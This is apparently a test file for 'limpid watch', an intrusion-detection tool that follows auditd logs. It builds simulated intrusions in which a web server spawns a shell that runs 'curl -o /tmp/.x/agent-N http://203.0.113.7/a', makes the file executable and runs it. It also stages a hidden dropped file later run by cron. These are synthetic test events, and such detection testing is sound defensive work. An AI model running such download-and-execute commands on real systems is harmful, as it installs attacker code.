import { type ChildProcess, spawn } from "node:child_process";
import {
  appendFileSync,
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import type { Finding, Summary } from "@limpid/core";
import { afterAll, describe, expect, it, test } from "vitest";
import { Scene } from "../../../../../packages/detect/src/testing/scene.ts";
import { auditLog } from "../../../../../tests/support/audit-log.ts";
import { PROGRAM } from "../../../../../tests/support/program.ts";
import { runLimpid } from "../../testing/run-limpid.ts";

const made: string[] = [];
afterAll(() => {
  for (const folder of made) rmSync(folder, { recursive: true, force: true });
});

function folder(): string {
  const path = mkdtempSync(join(tmpdir(), "limpid-watch-"));
  made.push(path);
  return path;
}

/** So many intrusions, one after the other, as auditd logs them; each is told in a text of its own. */
function intrusions(count: number): readonly string[] {
  const scene = new Scene();
  const server = scene.process({ image: "/usr/sbin/nginx" });
  const ends: number[] = [];
  for (let index = 0; index < count; index++) {
    const path = `/tmp/.x/agent-${index}`;
    const shell = server.fork().exec("/usr/bin/dash", ["sh", "-c", `curl -o ${path} http://203.0.113.7/a`]);
    scene.wait(20);
    shell.fork().exec("/usr/bin/curl", `curl -o ${path} http://203.0.113.7/a`).create(path).exit();
    scene.wait(40);
    shell.fork().exec("/usr/bin/chmod", `chmod +x ${path}`).chmod(path).exit();
    shell.fork().exec(path).exit();
    scene.wait(3_000);
    ends.push(scene.events.length);
  }
  return ends.map((end, index) => auditLog(scene.events.slice(ends[index - 1] ?? 0, end)));
}

/** As logrotate does it. */
function rotate(log: string): void {
  for (let number = 6; number >= 1; number--) {
    if (existsSync(`${log}.${number}`)) renameSync(`${log}.${number}`, `${log}.${number + 1}`);
  }
  renameSync(log, `${log}.1`);
  writeFileSync(log, "");
}

/** A watch as a process that can be killed. */
class Running {
  readonly child: ChildProcess;
  out = "";
  err = "";
  readonly ended: Promise<number | null>;

  constructor(args: readonly string[]) {
    this.child = spawn(process.execPath, [PROGRAM, "watch", "--json", ...args], { stdio: ["pipe", "pipe", "pipe"] });
    this.child.stdout?.setEncoding("utf8").on("data", (text: string) => {
      this.out += text;
    });
    this.child.stderr?.setEncoding("utf8").on("data", (text: string) => {
      this.err += text;
    });
    this.ended = new Promise((resolve) => this.child.on("close", resolve));
  }

  /** Whole lines only: a killed process may leave half of one. */
  get revisions(): readonly Finding[] {
    return this.#lines.filter(({ schema }) => schema === "limpid.finding/1") as unknown as Finding[];
  }

  get summary(): Summary | undefined {
    return this.#lines.find(({ schema }) => schema === "limpid.summary/1") as unknown as Summary | undefined;
  }

  get #lines(): readonly Record<string, unknown>[] {
    return this.out
      .slice(0, this.out.lastIndexOf("\n") + 1)
      .split("\n")
      .filter((line) => line !== "")
      .map((line) => JSON.parse(line));
  }

  /** It works with its state, so it watches from now on. */
  async begun(state: string): Promise<void> {
    await this.until(() => {
      if (this.child.exitCode !== null) throw new Error(this.err);
      if (!existsSync(state)) return false;
      const marks = readdirSync(state).filter((name) => name.endsWith(".lock"));
      return marks.some((name) => readFileSync(join(state, name), "utf8").startsWith(`${this.child.pid} `));
    });
  }

  /** Ends it as a user would; gives its exit code. */
  stopped(): Promise<number | null> {
    this.child.kill("SIGTERM");
    return this.ended;
  }

  async until(holds: () => boolean): Promise<void> {
    for (const started = Date.now(); !holds(); ) {
      if (Date.now() - started > 50_000)
        throw new Error(`it did not happen. ${this.revisions.length} revisions, and: ${this.err.slice(0, 500)}`);
      await sleep(20);
    }
  }
}

/** What an analyst decides by: process keys and revisions apart, which the cut of a stream may change. */
function essence(findings: readonly Finding[]): readonly unknown[] {
  const last = new Map(findings.map((finding) => [finding.id, finding]));
  return [...last.values()]
    .map(({ id, priority, score, title, artifact, creator, executions, lastSeen }) => ({
      id,
      priority,
      score,
      title,
      path: artifact.path,
      creator: [creator.basis, creator.image, creator.role],
      executions: executions.length,
      lastSeen,
    }))
    .sort((one, other) => (one.id < other.id ? -1 : 1));
}

async function hunted(log: string): Promise<readonly unknown[]> {
  const { objects } = await runLimpid(["hunt", "--json", "--host", "h", "-"], { input: log });
  return essence(objects().filter(({ schema }) => schema === "limpid.finding/1") as unknown as Finding[]);
}

// Each works in a folder of its own and mostly waits: they wait together.
describe.concurrent("limpid watch --follow", () => {
  it("finds what hunt finds, and says it while the log is written", async () => {
    const home = folder();
    const log = join(home, "audit.log");
    const parts = intrusions(2);
    const watch = new Running(["--follow", log, "--host", "h", "--state", join(home, "state")]);
    await sleep(500);
    writeFileSync(log, parts[0] ?? "");
    await watch.until(() => watch.revisions.length >= 1);
    appendFileSync(log, parts[1] ?? "");
    await watch.until(() => new Set(watch.revisions.map(({ id }) => id)).size === 2);
    watch.child.kill("SIGTERM");
    expect(await watch.ended).toBe(1);
    expect(essence(watch.revisions)).toEqual(await hunted(parts.join("")));
    const { linesRead = 0, recordsUsed = 0, ignored = {}, skipped = {}, findings } = watch.summary ?? {};
    const sum = [...Object.values(ignored), ...Object.values(skipped)].reduce((all, count) => all + count, recordsUsed);
    expect(linesRead).toBe(sum);
    expect(linesRead).toBe(parts.join("").split("\n").length - 1);
    expect(Object.values(findings ?? {}).reduce((all, count) => all + count, 0)).toBe(2);
  });

  it("loses nothing and tells nothing twice, killed at any moment and through rotations", {
    timeout: 120_000,
  }, async () => {
    const home = folder();
    const log = join(home, "audit.log");
    const state = join(home, "state");
    const parts = intrusions(24);
    const runs: Running[] = [];
    writeFileSync(log, "");
    let written = 0;
    for (const wait of [300, 2_600, 900, 1_700, 3_300, 400]) {
      const run = new Running(["--follow", log, "--host", "h", "--state", state]);
      runs.push(run);
      await run.begun(state);
      for (let part = 0; part < 4; part++) {
        const text = parts[written++] ?? "";
        // In two pieces, as a writer's buffer is cut anywhere.
        appendFileSync(log, text.slice(0, text.length >> 1));
        await sleep(wait / 4);
        appendFileSync(log, text.slice(text.length >> 1));
        if (part === 2 && wait > 1_000) {
          rotate(log);
        }
      }
      // What nobody knows to have been followed is not looked for in rotated parts.
      if (runs.length === 1) await run.until(() => readdirSync(state).some((name) => name.endsWith(".state")));
      run.child.kill("SIGKILL");
      await run.ended;
      expect(run.err).toBe("");
    }
    const last = new Running(["--follow", log, "--host", "h", "--state", state]);
    runs.push(last);
    const ids = (): Set<string> => new Set(runs.flatMap((run) => run.revisions.map(({ id }) => id)));
    await last.until(() => ids().size >= parts.length);
    await sleep(2_500);
    last.child.kill("SIGTERM");
    await last.ended;
    const said = runs.flatMap((run) => run.revisions);
    expect(essence(said)).toEqual(await hunted(parts.join("")));
    // A revision that was said before a crash may be said again, under its number; numbers have no holes.
    for (const id of new Set(said.map((finding) => finding.id))) {
      const numbers = new Set(said.filter((finding) => finding.id === id).map(({ revision }) => revision));
      expect([...numbers].sort((one, other) => one - other)).toEqual([...numbers].map((_, index) => index + 1));
    }
  });

  it("gives every revision to a file once, killed in the middle", { timeout: 120_000 }, async () => {
    const home = folder();
    const [log, state, out] = ["audit.log", "state", "findings.json"].map((name) => join(home, name)) as [
      string,
      string,
      string,
    ];
    const config = join(home, "limpid.yaml");
    writeFileSync(config, `outputs:\n  - { name: local, kind: file, path: ${out}, atLeast: expected }\n`);
    writeFileSync(log, "");
    const parts = intrusions(12);
    const written = (): readonly Finding[] =>
      existsSync(out)
        ? readFileSync(out, "utf8")
            .split("\n")
            .filter((line) => line !== "")
            .map((line) => JSON.parse(line))
        : [];
    const ids = (): number => new Set(written().map(({ id }) => id)).size;
    const start = (): Running => new Running(["--follow", log, "--host", "h", "--state", state, "--config", config]);
    for (const round of [0, 1, 2]) {
      const run = start();
      await run.begun(state);
      for (const part of parts.slice(round * 4, round * 4 + 4)) appendFileSync(log, part);
      await run.until(() => ids() > round * 4 + 1);
      // Before its state is saved, after that, and somewhere in between.
      await sleep(round * 1_300);
      run.child.kill("SIGKILL");
      await run.ended;
    }
    const last = start();
    await last.begun(state);
    await last.until(() => ids() === parts.length);
    await sleep(2_500);
    last.child.kill("SIGTERM");
    await last.ended;
    expect(last.err).toMatch(/^output local: \d+ delivered$/m);
    const keys = written().map(({ id, revision }) => `${id}/${revision}`);
    expect(keys.length - new Set(keys).size).toBe(0);
    expect(essence(written())).toEqual(await hunted(parts.join("")));
    for (const { id, revision } of written()) {
      for (let before = 1; before < revision; before++) expect(keys).toContain(`${id}/${before}`);
    }
  });

  it("is one finding when the file runs a day after it was dropped, with another watch in between", async () => {
    const home = folder();
    const log = join(home, "audit.log");
    const args = ["--follow", log, "--host", "h", "--state", join(home, "state")];
    const scene = new Scene();
    const shell = scene.process({ image: "/usr/sbin/nginx" }).fork().exec("/usr/bin/dash", "sh -c x");
    shell.fork().exec("/usr/bin/curl", "curl -o /var/tmp/.a http://h/").create("/var/tmp/.a").chmod("/var/tmp/.a");
    writeFileSync(log, auditLog(scene.events));
    const first = new Running(args);
    await first.until(() => first.revisions.length >= 1);
    await first.stopped();
    const dropped = scene.events.length;
    scene.wait(86_400_000).process({ image: "/usr/sbin/cron", uid: 0 }).fork().exec("/var/tmp/.a");
    appendFileSync(log, auditLog(scene.events.slice(dropped)));
    const second = new Running(args);
    await second.until(() => second.revisions.some(({ executions }) => executions.length > 0));
    await second.stopped();
    const [before] = first.revisions;
    const after = second.revisions.at(-1);
    expect(before).toMatchObject({ revision: 1, change: "opened", executions: [] });
    expect(after?.id).toBe(before?.id);
    expect(after?.revision).toBe(2);
    expect(after?.executions).toHaveLength(1);
    expect(after?.creator.image).toBe("/usr/bin/curl");
  });

  it("says what state it cannot use, keeps it, and starts anew", async () => {
    const home = folder();
    const log = join(home, "audit.log");
    const state = join(home, "state");
    writeFileSync(log, intrusions(1)[0] ?? "");
    const args = ["--follow", log, "--state", state];
    const once = new Running(args);
    await once.until(() => once.revisions.length >= 1);
    await once.stopped();
    const [file = ""] = readdirSync(state).filter((name) => name.endsWith(".state"));
    const whole = readFileSync(join(state, file));
    expect(statSync(state).mode & 0o777).toBe(0o700);
    writeFileSync(join(state, file), whole.subarray(0, whole.length - 100));
    const again = new Running(args);
    await again.until(() => again.revisions.length >= 1);
    expect(await again.stopped()).toBe(1);
    expect(again.err).toMatch(/torn.*kept as/);
    expect(again.revisions).toHaveLength(1);
    expect(readdirSync(state).some((name) => name.includes(".unused-"))).toBe(true);
  });

  it("lets one watch at a time work with its state", async () => {
    const home = folder();
    const log = join(home, "audit.log");
    writeFileSync(log, "");
    const args = ["--follow", log, "--state", join(home, "state")];
    const one = new Running(args);
    await one.begun(join(home, "state"));
    const { code, stderr } = await runLimpid(["watch", ...args]);
    expect(code).toBe(3);
    expect(stderr).toContain(`pid ${one.child.pid}`);
    one.child.kill("SIGINT");
    expect(await one.ended).toBe(0);
    expect((await runLimpid(["watch", ...args, "--for", "1s"])).code).toBe(0);
  });
});

describe("limpid watch -", () => {
  it("finds in standard input before it ends", async () => {
    const home = folder();
    const watch = new Running(["-", "--host", "h", "--state", join(home, "state")]);
    const [text = ""] = intrusions(1);
    watch.child.stdin?.write(text);
    await watch.until(() => watch.revisions.length >= 1);
    watch.child.stdin?.end();
    expect(await watch.ended).toBe(1);
    expect(essence(watch.revisions)).toEqual(await hunted(text));
  });

  it("gives every revision to the outputs of the configuration", async () => {
    const home = folder();
    const config = join(home, "limpid.yaml");
    const out = join(home, "findings.json");
    writeFileSync(config, `outputs:\n  - { name: local, kind: file, path: ${out}, atLeast: low }\n`);
    const args = ["watch", "-", "--json", "--host", "h", "--state", join(home, "state"), "--config", config];
    const { objects } = await runLimpid(args, { input: intrusions(2).join("") });
    const said = objects().filter(({ schema }) => schema === "limpid.finding/1");
    expect(said.length).toBeGreaterThanOrEqual(2);
    const lines = readFileSync(out, "utf8").trimEnd().split("\n");
    expect(lines.map((line) => JSON.parse(line))).toEqual(said);
  });

  it("says that it is no telemetry", async () => {
    const { code, stderr } = await runLimpid(["watch", "-", "--state", folder()], { input: "hello\n".repeat(20_000) });
    expect(code).toBe(3);
    expect(stderr).toContain("not recognised as telemetry");
  });
});

describe("limpid watch, live", () => {
  it("says at once what it sees, and more when the bytes have been looked into", async () => {
    const child = spawn(process.execPath, [
      join(import.meta.dirname, "testing", "watch-fake-sensor.ts"),
      folder(),
      "json",
    ]);
    let out = "";
    child.stdout.setEncoding("utf8").on("data", (text: string) => {
      out += text;
    });
    const code = await new Promise((resolve) => child.on("close", resolve));
    const lines = out
      .split("\n")
      .filter((line) => line !== "")
      .map((line) => JSON.parse(line));
    const findings = lines.filter(({ schema }) => schema === "limpid.finding/1") as Finding[];
    expect(findings.map(({ change, revision, priority }) => [change, revision, priority])).toEqual([
      ["opened", 1, "medium"],
      ["raised", 2, "high"],
    ]);
    expect(findings.at(-1)?.blindSpots.join()).toContain("network mount");
    expect(lines.at(-1)).toMatchObject({
      schema: "limpid.summary/1",
      lost: { "web-3": 7 },
      findings: { high: 1, medium: 0 },
    });
    expect(code).toBe(1);
  });

  test.runIf(process.getuid?.() === 0)("says what it needs when it is not root, and what can be done", async () => {
    const { code, stderr } = await runLimpid(["watch"], { uid: 65_534 });
    expect(code).toBe(3);
    expect(stderr).toMatch(/needs root.*sudo limpid watch.*--follow/s);
  });
});

describe("wrong arguments", () => {
  test.each([
    { args: ["audit.log"], says: "--follow audit.log" },
    { args: ["-", "--follow", "audit.log"], says: "either" },
    { args: ["-", "--for", "soon"], says: "--for soon" },
    { args: ["-", "--max-cpu", "0"], says: "--max-cpu 0" },
  ])("$args", async ({ args, says }) => {
    const { code, stderr } = await runLimpid(["watch", ...args, "--state", folder()]);
    expect(code).toBe(2);
    expect(stderr).toContain(says);
  });
});
